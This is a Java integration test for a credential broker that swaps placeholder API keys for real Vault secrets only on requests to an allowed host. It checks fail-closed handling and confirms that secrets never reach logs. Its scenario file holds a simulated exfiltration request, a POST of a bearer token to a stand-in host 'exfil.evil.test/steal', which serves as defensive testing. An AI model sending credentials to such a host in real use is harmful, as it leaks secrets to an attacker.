package dev.faramesh.it.broker;

import static org.assertj.core.api.Assertions.assertThat;

import dev.faramesh.audit.AuditReader;
import dev.faramesh.audit.DprRecord;
import dev.faramesh.it.support.ChildJvm;
import dev.faramesh.it.support.HostsFile;
import dev.faramesh.it.support.Jdks;
import dev.faramesh.it.support.RecordedRequest;
import dev.faramesh.it.support.RecordingServer;
import dev.faramesh.it.support.TestSecrets;
import dev.faramesh.it.support.TestTls;
import dev.faramesh.testkit.aws.AwsAccessKey;
import dev.faramesh.testkit.aws.AwsSecretsManagerServer;
import dev.faramesh.testkit.azure.AzureKeyVaultServer;
import dev.faramesh.testkit.azureidentity.AzureImdsServer;
import dev.faramesh.testkit.azureidentity.ManagedIdentity;
import dev.faramesh.testkit.gcp.GcpSecretManagerServer;
import dev.faramesh.testkit.infisical.InfisicalServer;
import dev.faramesh.testkit.infisical.MachineIdentity;
import dev.faramesh.testkit.onepassword.ItemField;
import dev.faramesh.testkit.onepassword.OnePasswordConnectServer;
import dev.faramesh.testkit.vault.VaultServer;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The credential broker end to end with the real faramesh.jar. {@code faramesh credential register}
 * (run from the jar) binds {@code stripe-key} to a KV v2 secret in the testkit's Vault, scoped to
 * {@code api.allowed.test}; the policy adds two more credentials, one bound to a Vault path that does
 * not exist and one to an Infisical server that is down. An unmodified application under the agent
 * then reads {@code STRIPE_API_KEY} (a placeholder) and sends it to the in-scope host (the real value
 * arrives, fetched from Vault over a socket after the permit) and to an out-of-scope host (only the
 * placeholder arrives); the two broken credentials fail closed for their own calls with
 * {@code CREDENTIAL_NOT_FOUND} and {@code BACKEND_UNAVAILABLE} in the DPR while the stripe calls around
 * them go through. {@code credential list} and {@code credential health} run from the jar too.
 */
class BrokeredCredentialIT {

  static final String ALLOWED = "api.allowed.test";
  static final String EVIL = "exfil.evil.test";

  static final String POLICY = """
      credential "missing-key" {
        backend = "vault"
        path    = "secret/data/nothing/here"
        field   = "api_key"
        env     = ["MISSING_API_KEY"]
        hosts   = ["api.allowed.test"]
      }
      credential "infisical-key" {
        backend = "infisical"
        path    = "OPENAI_API_KEY"
        env     = ["OPENAI_API_KEY"]
        hosts   = ["api.allowed.test"]
      }
      agent it-bot {
        default deny
        rules {
          permit http/* host "api.allowed.test"
          permit http/* host "exfil.evil.test"
        }
      }
      """;

  private static Path dir;
  private static TestTls tls;
  private static RecordingServer allowed;
  private static RecordingServer evil;
  private static Path hosts;
  private static VaultServer vault;
  private static int closedPort;
  private static final String value = TestSecrets.random("sk_live_", 32);

  @BeforeAll
  static void start() throws Exception {
    dir = Files.createTempDirectory("faramesh-it-broker");
    tls = TestTls.create(dir.resolve("tls"), List.of(ALLOWED, EVIL, "localhost"));
    allowed = RecordingServer.start("allowed", tls);
    evil = RecordingServer.start("evil", tls);
    hosts = HostsFile.write(dir.resolve("hosts"), List.of(ALLOWED, EVIL));
    vault = VaultServer.start();
    vault.putKv("secret", "stripe/api-key", Map.of("api_key", value, "owner", "payments"));
    try (ServerSocket s = new ServerSocket(0)) {
      closedPort = s.getLocalPort();
    }
  }

  @AfterAll
  static void stop() throws Exception {
    allowed.close();
    evil.close();
    vault.stop();
  }

  static Stream<Jdks.Jdk> jdks() {
    return Jdks.selected().stream();
  }

  private static Path jar() {
    return Path.of(System.getProperty("faramesh.jar"));
  }

  /** The backend settings every process gets from its environment, as an operator would set them. */
  private static ChildJvm environment(ChildJvm c) {
    return c.env("FARAMESH_CREDENTIAL_VAULT_TOKEN", vault.rootToken())
        .env("FARAMESH_CREDENTIAL_INFISICAL_HOST", "http://127.0.0.1:" + closedPort)
        .env("FARAMESH_CREDENTIAL_INFISICAL_CLIENT_ID", "machine-1")
        .env("FARAMESH_CREDENTIAL_INFISICAL_CLIENT_SECRET", "not-used-the-server-is-down")
        .env("FARAMESH_CREDENTIAL_INFISICAL_PROJECT", "p1")
        .env("FARAMESH_CREDENTIAL_INFISICAL_ENVIRONMENT", "prod")
        .env("FARAMESH_CREDENTIAL_INFISICAL_TIMEOUT", "2s");
  }

  private static ChildJvm.Result cli(Jdks.Jdk jdk, Path work, String... args) {
    return environment(ChildJvm.on(jdk).jar(jar(), args).directory(work)).run();
  }

  private static String line(String... fields) {
    return String.join("\t", fields) + "\n";
  }

  /**
   * Every backend's SDK works from inside faramesh.jar, where it is relocated under
   * {@code dev.faramesh.shaded}: {@code credential register --check} reads a secret from each testkit
   * server through the real, relocated client.
   */
  @org.junit.jupiter.api.Test
  void everyBackendReadsThroughItsRelocatedSdkInsideTheJar() throws Exception {
    Jdks.Jdk jdk = Jdks.selected().get(0);
    Path work = Files.createDirectories(dir.resolve("all-backends"));
    String secret = TestSecrets.random("sk_", 24);
    AwsSecretsManagerServer aws = AwsSecretsManagerServer.start();
    GcpSecretManagerServer gcp = GcpSecretManagerServer.start();
    AzureKeyVaultServer kv = AzureKeyVaultServer.start();
    AzureImdsServer imds = AzureImdsServer.start(kv.tenantId(), ManagedIdentity.systemAssigned("s", "rg", "vm"));
    OnePasswordConnectServer op = OnePasswordConnectServer.start();
    InfisicalServer inf = InfisicalServer.start();
    try {
      AwsAccessKey key = aws.newAccessKey();
      aws.putSecret("prod/stripe", secret);
      gcp.addVersion("agents-prod", "stripe", secret);
      kv.acceptTokens(t -> t.chars().filter(c -> c == '.').count() == 2);
      kv.setSecret("stripe", secret);
      Path ca = work.resolve("kv-ca.pem");
      Files.writeString(ca, "-----BEGIN CERTIFICATE-----\n" + java.util.Base64.getMimeEncoder(64, new byte[] {'\n'})
          .encodeToString(kv.tls().certificate().getEncoded()) + "\n-----END CERTIFICATE-----\n");
      String vaultId = op.createVault("agents");
      op.createItem(vaultId, "stripe", "LOGIN", List.of(ItemField.password(secret)));
      MachineIdentity id = inf.createIdentity();
      inf.putSecret("p1", "prod", "/", "STRIPE", secret);
      ChildJvm.Result r = null;
      String[][] cases = {
          {"aws-sm", "prod/stripe"}, {"gcp-sm", "stripe"}, {"gcp-sm-rest", "stripe"}, {"azure-kv", "stripe"},
          {"1password", "agents/stripe"}, {"infisical", "STRIPE"}};
      for (String[] c : cases) {
        String backend = c[0].equals("gcp-sm-rest") ? "gcp-sm" : c[0];
        ChildJvm cli = ChildJvm.on(jdk).jar(jar(), "credential", "register", "--registry",
            work.resolve(c[0] + ".json").toString(), "--name", "k", "--backend", backend, "--path", c[1], "--check")
            .directory(work)
            .env("AWS_ACCESS_KEY_ID", key.accessKeyId()).env("AWS_SECRET_ACCESS_KEY", key.secretAccessKey())
            .env("FARAMESH_CREDENTIAL_AWS_REGION", "us-east-1")
            .env("FARAMESH_CREDENTIAL_AWS_ENDPOINT", aws.baseUrl().toString())
            .env("FARAMESH_CREDENTIAL_GCP_PROJECT", "agents-prod")
            .env("FARAMESH_CREDENTIAL_GCP_ENDPOINT", c[0].equals("gcp-sm-rest") ? gcp.baseUrl().toString()
                : "http://" + gcp.grpcTarget())
            .env("FARAMESH_CREDENTIAL_GCP_TRANSPORT", c[0].equals("gcp-sm-rest") ? "rest" : "grpc")
            .env("FARAMESH_CREDENTIAL_GCP_CREDENTIALS", "none")
            .env("FARAMESH_CREDENTIAL_AZURE_VAULT_URL", kv.baseUrl().toString())
            .env("FARAMESH_CREDENTIAL_AZURE_IMDS_ENDPOINT", imds.baseUrl())
            .env("FARAMESH_CREDENTIAL_AZURE_CA_CERT", ca.toString())
            .env("FARAMESH_CREDENTIAL_1PASSWORD_HOST", op.baseUrl().toString())
            .env("FARAMESH_CREDENTIAL_1PASSWORD_TOKEN", op.issueToken())
            .env("FARAMESH_CREDENTIAL_INFISICAL_HOST", inf.baseUrl().toString())
            .env("FARAMESH_CREDENTIAL_INFISICAL_CLIENT_ID", id.clientId())
            .env("FARAMESH_CREDENTIAL_INFISICAL_CLIENT_SECRET", id.clientSecret())
            .env("FARAMESH_CREDENTIAL_INFISICAL_PROJECT", "p1")
            .env("FARAMESH_CREDENTIAL_INFISICAL_ENVIRONMENT", "prod");
        r = cli.run();
        assertThat(r.exitCode()).as("%s: %s", c[0], r).isZero();
        assertThat(r.stdout()).as(c[0]).contains("checked: k resolves in " + backend);
        assertThat(r.stdout() + r.stderr()).as(c[0]).doesNotContain(secret);
      }
    } finally {
      aws.stop();
      gcp.stop();
      kv.stop();
      imds.stop();
      op.stop();
      inf.stop();
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("jdks")
  void theAgentBrokersAVaultCredentialToTheScopedHostOnlyAndBrokenBackendsFailClosedAlone(Jdks.Jdk jdk)
      throws Exception {
    Path work = Files.createDirectories(dir.resolve("jdk" + jdk.feature()));
    Files.writeString(work.resolve("governance.fms"), POLICY);
    ChildJvm.Result reg = cli(jdk, work, "credential", "register", "--name", "stripe-key", "--backend", "vault",
        "--path", "secret/data/stripe/api-key", "--field", "api_key", "--hosts", ALLOWED, "--env", "STRIPE_API_KEY",
        "--ttl", "10m", "--vault-addr", vault.baseUrl().toString(), "--check");
    assertThat(reg.exitCode()).as("%s", reg).isZero();
    assertThat(reg.stdout()).contains("checked: stripe-key resolves in vault (version 1)");
    String registry = Files.readString(work.resolve(".faramesh/credentials.json"));
    assertThat(registry).contains("\"stripe-key\"").contains(vault.baseUrl().toString())
        .doesNotContain(value).doesNotContain(vault.rootToken());

    ChildJvm.Result list = cli(jdk, work, "credential", "list");
    assertThat(list.exitCode()).as("%s", list).isZero();
    assertThat(list.stdout()).contains("stripe-key").contains("missing-key").contains("infisical-key")
        .contains("secret/data/stripe/api-key [api_key]").doesNotContain(value);

    ChildJvm.Result health = cli(jdk, work, "credential", "health");
    assertThat(health.exitCode()).as("%s", health).isEqualTo(1);
    assertThat(health.stdout()).containsPattern("vault\\s+up\\s+\\d+ ms\\s+logged in and read stripe-key \\(version 1\\); "
            + "not readable: missing-key \\(CREDENTIAL_NOT_FOUND\\)")
        .containsPattern("infisical\\s+DOWN\\s+\\d+ ms\\s+BACKEND_UNAVAILABLE");

    allowed.clear();
    evil.clear();
    String a = "http://" + ALLOWED + ":" + allowed.plainPort();
    String aTls = "https://" + ALLOWED + ":" + allowed.tlsPort();
    String e = "http://" + EVIL + ":" + evil.plainPort();
    String bearer = "Authorization: Bearer {env:STRIPE_API_KEY}";
    Path scenario = Files.writeString(work.resolve("scenario.tsv"),
        line("getenv", "STRIPE_API_KEY")
        + line("http", "in-scope", "HTTP_1_1", "POST", a + "/v1/charges", bearer)
        + line("http", "out-of-scope", "HTTP_1_1", "POST", e + "/steal", bearer)
        + line("http", "not-found", "HTTP_1_1", "GET", a + "/v1/missing", "Authorization: Bearer {env:MISSING_API_KEY}")
        + line("http", "down", "HTTP_1_1", "GET", a + "/v1/openai", "Authorization: Bearer {env:OPENAI_API_KEY}")
        + line("http", "plain", "HTTP_1_1", "GET", a + "/v1/no-credential")
        + line("urlconn", "in-scope-again", "GET", aTls + "/v1/again", bearer));
    ChildJvm child = environment(ChildJvm.on(jdk).agent(jar(), "agent=it-bot"))
        .jvmArg(HostsFile.argument(hosts))
        .classpath(System.getProperty("faramesh.it.apps"))
        .main("dev.faramesh.it.apps.ScenarioApp", scenario.toString())
        .directory(work);
    for (String arg : tls.trustArguments()) {
      child.jvmArg(arg);
    }
    ChildJvm.Result run = child.run();
    assertThat(run.exitCode()).as("%s", run).isZero();
    assertThat(run.stdout()).as("%s", run).contains("APP DONE");

    String placeholder = run.lines("RESULT getenv STRIPE_API_KEY=").get(0);
    // the value lives in Vault, not in the environment, so the placeholder has the generic shape
    assertThat(placeholder).startsWith("fmsh_").isNotEqualTo(value);

    assertThat(run.lines("RESULT in-scope ")).singleElement().asString().startsWith("status=200");
    List<RecordedRequest> charges = allowed.requests("/v1/charges");
    assertThat(charges).singleElement().satisfies(r -> assertThat(r.header("authorization"))
        .isEqualTo("Bearer " + value));
    assertThat(allowed.requests("/v1/again")).singleElement().satisfies(r -> assertThat(r.header("authorization"))
        .isEqualTo("Bearer " + value));

    assertThat(run.lines("RESULT out-of-scope ")).singleElement().asString().startsWith("status=200");
    assertThat(evil.requests("/steal")).singleElement().satisfies(r -> assertThat(r.header("authorization"))
        .isEqualTo("Bearer " + placeholder));

    assertThat(run.lines("RESULT not-found ")).singleElement().asString().contains("CREDENTIAL_NOT_FOUND");
    assertThat(run.lines("RESULT down ")).singleElement().asString().contains("BACKEND_UNAVAILABLE");
    assertThat(allowed.requests("/v1/missing")).isEmpty();
    assertThat(allowed.requests("/v1/openai")).isEmpty();
    assertThat(run.lines("RESULT plain ")).singleElement().asString().startsWith("status=200");
    assertThat(run.lines("RESULT in-scope-again ")).singleElement().asString().startsWith("status=200");

    List<DprRecord> dprs = new ArrayList<>();
    AuditReader.forEach(work.resolve(".faramesh/wal"), x -> dprs.add(x.record()));
    assertThat(dprs).extracting(DprRecord::reasonCode).contains("CREDENTIAL_NOT_FOUND", "BACKEND_UNAVAILABLE");
    assertThat(dprs).filteredOn(d -> "CREDENTIAL_NOT_FOUND".equals(d.reasonCode()))
        .singleElement().satisfies(d -> assertThat(d.effect()).isEqualToIgnoringCase("deny"));
    assertThat(dprs).filteredOn(d -> d.credentialBrokered()).hasSizeGreaterThanOrEqualTo(2);
    // the agent's own calls to Vault are not the application's: no DPR names the Vault port
    assertThat(dprs).noneMatch(d -> d.has("network_port") && d.networkPort() == vault.baseUrl().getPort());

    for (String text : List.of(run.stdout(), run.stderr(), reg.stdout(), reg.stderr(), list.stdout(),
        health.stdout(), health.stderr(), registry)) {
      assertThat(text).doesNotContain(value).doesNotContain(vault.rootToken());
    }
    for (Path f : Files.walk(work.resolve(".faramesh/wal")).filter(Files::isRegularFile).toList()) {
      assertThat(new String(Files.readAllBytes(f), java.nio.charset.StandardCharsets.ISO_8859_1))
          .as("WAL file %s", f).doesNotContain(value);
    }
  }
}
